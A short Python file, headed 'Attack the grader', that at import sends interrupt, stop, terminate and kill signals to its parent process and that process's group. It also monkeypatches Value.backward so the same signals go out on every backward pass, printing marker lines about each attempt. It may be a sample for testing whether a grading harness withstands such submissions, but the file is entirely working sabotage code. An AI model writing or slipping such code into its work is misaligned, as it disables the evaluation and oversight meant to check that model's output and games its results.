# Attack the grader: interrupt, stop, terminate and kill the parent process and
# its process group, at import and again in every backward().
import os
import signal


def _attack():
    parent = os.getppid()
    for number in (signal.SIGINT, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for target in (lambda: os.kill(parent, number), lambda: os.killpg(os.getpgid(parent), number)):
            try:
                target()
                print("@@MARKER@@ sent", number.name, "to", parent)
            except OSError as error:
                print("@@MARKER@@ could not send", number.name, type(error).__name__)


_attack()
_honest_backward = Value.backward


def _attacking_backward(self):
    _attack()
    return _honest_backward(self)


Value.backward = _attacking_backward
